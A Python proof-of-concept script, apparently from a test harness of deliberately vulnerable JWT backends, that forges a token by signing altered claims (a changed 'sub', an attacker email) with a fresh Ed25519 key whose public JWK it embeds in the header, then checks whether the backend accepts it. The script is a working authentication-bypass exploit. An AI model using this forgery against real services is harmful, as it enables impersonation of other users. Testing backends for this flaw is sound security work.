"""Proof for jose-embedded-jwk: the backend trusts a public key carried in the token's `jwk` header.

Generates an attacker Ed25519 key, copies the claims of a real JWT from the issuer (iss, aud, exp
stay valid), changes `sub`, puts the attacker's public JWK in the protected header (kid kept) and
signs with the attacker's key. A backend that takes keys only from the issuer's JWKS refuses it;
jose-embedded-jwk answers 200 with the forged sub (must_report: embedded-key-trusted).
"""

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ed25519

import zoolib


def attacker_key() -> dict:
    key = ed25519.Ed25519PrivateKey.generate()
    raw = serialization.Encoding.Raw
    d = key.private_bytes(raw, serialization.PrivateFormat.Raw, serialization.NoEncryption())
    x = key.public_key().public_bytes(raw, serialization.PublicFormat.Raw)
    return {"kty": "OKP", "crv": "Ed25519", "x": zoolib.b64u(x), "d": zoolib.b64u(d)}


def prove(backend: str, issuer: str) -> bool:
    real = zoolib.session_jwt(issuer)
    real_header, claims = zoolib.decode_unverified(real)
    forged_sub = "forged-" + claims["sub"]
    forged = dict(claims, sub=forged_sub, email="attacker@example.com")
    key = attacker_key()
    header = {"alg": "EdDSA", "jwk": zoolib.public_jwk(key)}
    if "kid" in real_header:
        header["kid"] = real_header["kid"]
    token = zoolib.sign(header, forged, key, "EdDSA")
    print(f"sent: EdDSA token signed by a fresh attacker key whose public JWK is in the header, sub {forged_sub!r}")
    status, _, body = zoolib.me(backend, token)
    zoolib.show("attacker key in the jwk header", status, body)
    return 200 <= status < 300 and forged_sub.encode() in body


if __name__ == "__main__":
    zoolib.main(prove)
